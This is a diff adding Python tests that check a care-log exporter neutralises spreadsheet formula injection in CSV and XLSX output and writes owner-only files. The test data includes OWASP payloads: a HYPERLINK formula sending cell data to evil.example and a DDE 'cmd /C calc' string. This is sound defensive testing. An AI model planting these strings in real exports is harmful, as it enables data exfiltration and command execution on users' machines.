@@ -5,6 +5,8 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
+import stat
 from collections.abc import Iterator
 from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
@@ -223,3 +225,69 @@ def test_csv_from_the_database_is_the_csv_of_the_records(db_url: str) -> None:
     assert from_db == "".join(export.csv_chunks(export.rows_of(records)))
     assert from_db.count("\r\n") == len(records) + 1 and ".123400Z" in from_db
     assert "".join(export.csv_chunks(iter(typed))) == from_db  # the typed rows agree too
+
+
+# --- text that looks like a formula ---------------------------------------------------------
+
+# OWASP's CSV-injection starts, each in a text column; and numbers, negative ones included.
+HOSTILE = {
+    "presenting_problem": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "specialist": "+cmd|' /C calc'!A0",
+    "nurse": "-2+3",
+    "signed_off_by": "@SUM(1+1)",
+    "respect_plan": "\t=1+1",
+    "call_id": "\r=1+1",
+    "site_id": "-3",  # a text column: text, however much it looks like a number
+}
+
+
+def hostile_row() -> tuple[Any, ...]:
+    """A typed log row (as the database gives it) with every hostile text, and -3 and -1.5
+    in numeric columns (no record has them; the writers must still keep them numbers)."""
+    [row] = export.rows_of([signed(0)])
+    values = dict(zip(EXPORT_FIELDS, row, strict=True))
+    values.update(HOSTILE, news2_total=-3, news2_pulse=-1.5)
+    return tuple(values[name] for name in EXPORT_FIELDS)
+
+
+def test_csv_text_that_looks_like_a_formula_cannot_run_and_numbers_stay_numbers() -> None:
+    text = "".join(export.csv_chunks(iter([hostile_row()])))
+    [row] = csv.DictReader(io.StringIO(text))
+    for name, value in HOSTILE.items():
+        assert row[name] == "'" + value, name  # an apostrophe first: text to a spreadsheet
+    assert row["news2_total"] == "-3" and row["news2_pulse"] == "-1.5"
+    assert row["setting"] == "care_home" and row["nurse"] != "-2+3"
+    # No line of the file, and no field, begins with a formula character.
+    fields = [f for r in csv.reader(io.StringIO(text)) for f in r]
+    assert not [f for f in fields if f[:1] in export.FORMULA_STARTS and f not in ("-3", "-1.5")]
+
+
+def test_xlsx_text_that_looks_like_a_formula_is_stored_as_text(tmp_path: Path) -> None:
+    out = tmp_path / "log.xlsx"
+    with out.open("wb") as handle:
+        export.write_xlsx(iter([hostile_row()]), handle)
+    book = load_workbook(out)  # not read-only: its cells have data types and styles
+    sheet = book.active
+    assert sheet is not None
+    header = [c.value for c in sheet[1]]
+    cells = {str(h).removesuffix(" (UTC)"): c for h, c in zip(header, sheet[2], strict=True)}
+    for name, value in HOSTILE.items():
+        cell = cells[name]
+        # The text exactly as written, as a string (not a formula "f"), quote-prefixed so it
+        # stays text when someone edits the cell.
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True), name
+    assert (cells["news2_total"].value, cells["news2_total"].data_type) == (-3, "n")
+    assert (cells["news2_pulse"].value, cells["news2_pulse"].data_type) == (-1.5, "n")
+    assert not cells["setting"].quotePrefix
+    assert not [c for c in sheet[2] if c.data_type == "f"]
+
+
+def test_an_export_file_is_its_owners_alone(tmp_path: Path) -> None:
+    out = tmp_path / "log.csv"
+    before = os.umask(0o022)
+    try:
+        with atomic_output(out) as handle:
+            handle.write(b"x")
+    finally:
+        os.umask(before)
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
